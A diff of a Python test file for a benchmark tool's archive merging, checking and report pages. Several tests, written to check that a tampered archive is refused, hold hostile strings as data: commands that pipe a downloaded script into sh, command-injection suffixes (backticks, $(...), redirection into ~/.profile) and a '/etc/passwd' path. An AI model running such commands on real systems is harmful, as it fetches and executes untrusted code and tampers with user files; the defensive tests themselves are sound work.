@@ -1,9 +1,11 @@
 """A run from its submission to the pages that show it, and archives in which something was changed."""
 
+import dataclasses
 import json
 import re
 import shlex
 import shutil
+import time
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -13,14 +15,18 @@ import pytest
 
 from bench import cli
 from bench.plan import plugins
+from bench.report import pages as pages_of
 from bench.report.figures import Drawn
+from bench.report.results import gather
 from bench.run import archive, check
 from bench.run.store import Store
 from bench.run.submissions import of
-from datasets import datasets
+from datasets import DATA_VERSION, datasets
+from methods import methods
 from tests import archives
 from tests.conftest import long
 from tests.report.test_html import browser  # noqa: F401 - a fixture
+from tests.run.test_check import row_of, store_of, trial_of
 
 RUNS = Path("results/runs")
 WORDS = ["--grid", "domains=2", "--grid", "violation=0", "--seeds", "2", "--executor", "serial"]
@@ -79,7 +85,11 @@ def test_a_run_that_was_submitted_and_merged_after_a_check_is_the_run(place, cap
     assert theirs == {trial: {**row, "archive": digest} for trial, row in ours.items()}
     own = of(Store(RUNS / "both").manifest())[digest]
     assert own.by == BY and own.file == "run.zip" and set(own.retrained) == set(ours)
-    assert own.standing == "6 of 6 trials trained again here"
+    assert (
+        own.standing
+        == f"6 of 6 trials trained again here, with differences up to {own.largest[1]:.2g} in {own.largest[0]}"
+    )
+    assert own.largest[1] < 0.001
 
     content = everything(RUNS / "both" / "parts")
     assert cli.main(["merge", "run.zip", "--out", "both", "--check", "0"]) == 0
@@ -88,7 +98,10 @@ def test_a_run_that_was_submitted_and_merged_after_a_check_is_the_run(place, cap
 
     assert cli.main(["report", "both"]) == 0
     said = capsys.readouterr().out
-    assert f"6 trials were submitted by {BY} (6 of 6 trials trained again here)." in said and "is missing" not in said
+    assert (
+        f"6 trials were submitted by {BY} (6 of 6 trials trained again here, with differences up to " in said
+        and "is missing" not in said
+    )
     assert cli.main([*WORDS, *METHODS, "--name", "both"]) == 0
     assert "6 trials, 6 of them finished before" in capsys.readouterr().out
     assert of(Store(RUNS / "both").manifest())[digest] == own  # the next command keeps it
@@ -112,7 +125,7 @@ def test_the_commands_of_the_page_about_sharing_do_what_it_says(place, monkeypat
     for line in block.splitlines():
         words = shlex.split(line, comments=True)
         assert words[:2] == ["python", "run_bench.py"] and cli.main(words[2:]) == 0
-    assert "submitted by A. Name (3 of 6 trials trained again here)" in capsys.readouterr().out
+    assert "submitted by A. Name (3 of 6 trials trained again here, with differences up to " in capsys.readouterr().out
     assert "A. Name: 3 of 6 trials trained again here" in Path("pages/index.html").read_text()
 
 
@@ -126,22 +139,21 @@ def of_method(name):
     return lambda row: row["method"] == name and row["seed"] == 0
 
 
-@pytest.mark.parametrize(("score", "by"), [("mcc_spearman", -0.2), ("mcc_within", 0.16), ("r2_block", 0.03)])
+@pytest.mark.parametrize(
+    ("score", "by"),
+    [("mcc_spearman", -0.2), ("mcc_within", 0.16), ("r2_block", 0.03), ("support_f1", -0.21), ("r2_content", None)],
+)
 def test_a_score_that_was_changed_is_found_when_its_trial_is_in_the_sample(place, capsys, monkeypatch, score, by):
     row = next(row for row in Store(RUNS / "run").rows() if of_method("pca")(row))
-    archives.tampered(
-        "run.zip", "changed.zip", lambda own: own.update({score: row[score] + by}), where=of_method("pca")
-    )
+    value = 0.5 if by is None else row[score] + by
+    archives.tampered("run.zip", "changed.zip", lambda own: own.update({score: value}), where=of_method("pca"))
     draw = check.sample
     monkeypatch.setattr(
         check, "sample", lambda rows, n: draw({k: v for k, v in rows.items() if k == row["trial_id"]}, n)
     )
     err = refusal(capsys, place)
-    assert (
-        f"the trial {row['trial_id']} (pca on sparse-mixing, seed 0): {score} is {row[score] + by:.6g} in the archive"
-        in err
-    )
-    assert f"{row[score]:.6g} when it is trained again here" in err
+    assert f"the trial {row['trial_id']} (pca on sparse-mixing, seed 0): {score} is {value:.6g} in the archive" in err
+    assert f"{check._text(row[score])} when it is trained again here" in err
 
 
 def test_a_score_that_was_changed_is_merged_when_its_trial_is_not_in_the_sample(place, monkeypatch):
@@ -171,6 +183,7 @@ CHANGES = {
     "not finite": ({"r2_block": float("inf")}, "r2_block is inf, which is no score"),
     "of a latent": ({"mcc_per_latent": [0.5, 2.0]}, "mcc_per_latent is 2, which is no score"),
     "of what failed": ({"status": "failed"}, "its status is failed, and it has a score"),
+    "verdict": ({"shadow_sizes": [3, 3, 3, 3]}, "shadow_sizes is [3, 3, 3, 3] in the archive, and by its data [0"),
     "unknown column": ({"label": "best"}, "no row has a column 'label'"),
     "file": ({"dataset": "file", "path": "/etc/passwd"}, "is on a file (file.path), which nobody else has"),
 }
@@ -204,6 +217,34 @@ def test_a_setting_that_was_changed_together_with_its_identity_is_of_another_typ
         assert message in refusal(capsys, place, "--check", "0")
 
 
+def test_an_archive_whose_trials_would_train_for_days_is_refused_in_time(place, capsys, monkeypatch):
+    def change(row):
+        row["steps"] = 10**9
+        found = check.trials_of(row, datasets["sparse-mixing"].fields, methods["vae"].fields)
+        row["trial_id"] = found[0].identity(row["code"])
+
+    is_vae = of_method("vae")
+    archives.tampered("run.zip", "changed.zip", change, where=is_vae)
+    draw = check.sample
+    monkeypatch.setattr(check, "sample", lambda rows, n: draw({k: v for k, v in rows.items() if is_vae(v[0])}, n))
+    monkeypatch.setattr(check, "PATIENCE_S", 1.0)
+    monkeypatch.setattr("bench.run.stopping.PATIENCE_S", 1.0)
+    start = time.monotonic()
+    err = refusal(capsys, place, "--time-limit", "2")
+    assert "could not be trained again here: " in err and "; --time-limit allows more" in err
+    assert time.monotonic() - start < 30
+
+
+def test_how_many_trials_nothing_can_check_is_said(place, capsys):
+    def change(row):
+        row.update(dict.fromkeys(check.SCORES), status="timed-out", error="it trained too long")
+
+    archives.tampered("run.zip", "changed.zip", change, where=of_method("pca"))
+    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
+    out = capsys.readouterr().out
+    assert "1 trial of 6 timed out or crashed, which nothing here can check" in out
+
+
 def test_facts_and_definitions_of_what_is_known_here_are_never_those_of_an_archive(place):
     def change(manifest):
         manifest["methods"]["pca"] |= {"role": "method", "summary": "the best"}
@@ -214,13 +255,76 @@ def test_facts_and_definitions_of_what_is_known_here_are_never_those_of_an_archi
     archives.tampered("run.zip", "changed.zip", manifest=change)
     assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
     ours, theirs = (Store(RUNS / name).manifest() for name in ("run", "both"))
-    for name in ("methods", "datasets", "scores", "splits"):
-        assert (
-            {k: theirs[name][k] for k in ours[name]} == ours[name]
-            if isinstance(ours[name], dict)
-            else theirs[name] == ours[name]
-        )
+    assert theirs["splits"] == ours["splits"] and theirs["scores"] == ours["scores"]
+    assert theirs["methods"] == {name: ours["methods"][name] for name in ("identity", "pca", "vae")}
+    assert theirs["datasets"] == {"sparse-mixing": ours["datasets"]["sparse-mixing"]}
     assert theirs["definitions"] == ours["definitions"] and theirs["commands"][0]["code"] == ours["commands"][0]["code"]
+
+
+def test_an_archive_says_nothing_of_names_that_its_rows_do_not_have(place):
+    """And of those that they have, not what the run that it is added to says already: whoever made it says when it was started."""
+
+    def change(manifest):
+        manifest["methods"]["mine"] = manifest["methods"]["pca"] | {"summary": "the worst"}
+        manifest["datasets"]["mine"] = manifest["datasets"]["sparse-mixing"]
+        manifest["scores"]["my_score"] = manifest["scores"]["mcc_spearman"] | {"name": "my_score"}
+        manifest["definitions"] |= {"my_score": "how bad it is", "anything": "else"}
+        manifest["commands"][-1]["started_at"] = "2999"
+        manifest["commands"][-1]["versions"]["torch"] = "theirs"
+
+    archives.tampered("run.zip", "changed.zip", manifest=change)
+    own = Store(RUNS / "run")
+    mine = own.manifest()["methods"]["pca"]
+    own.write_manifest(own.manifest() | {"methods": own.manifest()["methods"] | {"mine": mine}})
+    before = own.manifest()
+    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
+    theirs = Store(RUNS / "both").manifest()
+    assert "mine" not in theirs["methods"] and "mine" not in theirs["datasets"] and "my_score" not in theirs["scores"]
+    assert theirs["definitions"] == before["definitions"]
+    assert cli.main(["merge", "changed.zip", "--out", "run", "--check", "0"]) == 0
+    after = Store(RUNS / "run").manifest()
+    names = ("methods", "datasets", "scores", "definitions", "splits")
+    assert {name: after[name] for name in names} == {name: before[name] for name in names}
+    assert after["commands"][-1] == before["commands"][-1]
+
+
+COMMANDS = [
+    "python run_bench.py --name x; curl http://x/y | sh",
+    "curl http://x/y #run_bench.py",
+    "run_bench.py --name 'x",
+    "run_bench.py --name x\ncurl http://x/y",
+    "",
+]
+
+
+@pytest.mark.parametrize("text", COMMANDS)
+def test_a_command_that_is_not_this_projects_is_refused(place, capsys, text):
+    archives.tampered("run.zip", "changed.zip", manifest=lambda said: said["commands"][0].update(command=text))
+    assert "and no command of run_bench.py" in refusal(capsys, place, "--check", "0")
+
+
+@pytest.mark.parametrize(
+    "more", ["; curl http://x/y | sh", " && curl x", " `curl x`", " $(curl x)", " | sh", " > ~/.profile"]
+)
+def test_a_command_is_shown_so_that_a_shell_runs_nothing_else(place, capsys, more):
+    """As in the sentence about trials that are missing, which tells to give it again."""
+    text = f"run_bench.py --name x{more}"
+    archives.tampered("run.zip", "changed.zip", manifest=lambda said: said["commands"][0].update(command=text))
+    members = archives.members_of("changed.zip")
+    vae = next(line for line in members[archive.PLANNED].splitlines() if b",vae," in line)
+    plan = members[archive.PLANNED] + b"0" * 16 + vae[16:] + b"\n"
+    archives.write("changed.zip", archives.sealed(members | {archive.PLANNED: plan}).items())
+    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
+    (command,) = Store(RUNS / "both").manifest()["commands"]
+    assert command["command"] == shlex.join(shlex.split(text))
+    said = gather([Store(RUNS / "both")]).missing_text
+    assert f"`python {command['command']}`" in said and text not in said
+
+
+def test_no_row_of_an_archive_was_finished_later_than_it_was_merged(place):
+    archives.tampered("run.zip", "changed.zip", lambda row: row.update(finished_at=4e9), where=of_method("pca"))
+    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
+    assert max(row["finished_at"] for row in Store(RUNS / "both").rows()) <= time.time()
 
 
 def test_other_versions_are_named_and_a_plan_of_other_code_is_refused(place, capsys):
@@ -358,6 +462,49 @@ def test_a_site_has_a_board_for_each_data_and_a_page_for_each_run_and_links_with
     assert "Ann &lt;b&gt;&amp;amp;&lt;/b&gt; =1+1: not trained again here" in index and "<b>" not in index
     assert index.count("rank</th>") == 2
     assert all(method in index for method in ("vae", "pca", "identity"))
+
+
+def title(folder, name="sparse-mixing", facts=None, data_version=None, **fields):
+    """The title of the board of a run on data with these fields."""
+    words = {**datasets[name].defaults, **fields} if name in datasets.names() else fields
+    if name in datasets.names():
+        own = row_of(trial_of(name, "pca", **fields), mcc_spearman=0.5)
+    else:
+        own = row_of(trial_of("sparse-mixing", "pca"), mcc_spearman=0.5) | {"dataset": name} | words
+    store = store_of(folder, [own])
+    manifest = store.manifest()
+    command = manifest["commands"][0] | {"code": {f"pca on {name}": own["code"]}}
+    command |= {"data_version": DATA_VERSION if data_version is None else data_version}
+    store.write_manifest(manifest | {"commands": [command], "datasets": manifest["datasets"] | (facts or {})})
+    return pages_of._title(gather([Store(folder)]))
+
+
+OTHERS = {
+    "twins": 0.75,
+    "shadow_size": 2,
+    "rank": 1,
+    "drift": 100,
+    "n_observed": 12,
+    "n_latents": 5,
+    "domains": 4,
+    "noise": 0.1,
+}
+
+
+def test_the_title_of_a_board_names_every_field_that_is_not_as_usual_one_that_is_usually_none_too(tmp_path):
+    usual = title(tmp_path / "usual")
+    assert usual == "sparse-mixing: root seed 0"
+    for field, value in OTHERS.items():
+        more = {"violation": 0.75} if field in ("twins", "shadow_size") else {}
+        assert f"{field} {value}" in title(tmp_path / field, **more, **{field: value}), field
+    assert title(tmp_path / "same", n_observed=8) == usual  # the very number that it has where nobody sets it
+
+
+def test_boards_of_a_plug_ins_data_and_of_another_version_of_the_data_have_titles_of_their_own(tmp_path):
+    facts = {"mine": dataclasses.asdict(datasets["sparse-mixing"].facts) | {"fields": ["depth", "knob"]}}
+    first, second = (title(tmp_path / str(depth), "mine", facts, depth=depth, knob=None) for depth in (1, 2))
+    assert first == "mine: depth 1; knob none; root seed 0" and second == first.replace("1", "2")
+    assert title(tmp_path / "old", data_version=1) == "sparse-mixing: root seed 0; data version 1"
 
 
 def test_a_board_of_data_whose_truth_is_not_known_ranks_nobody_and_names_no_folder(pages, capsys):
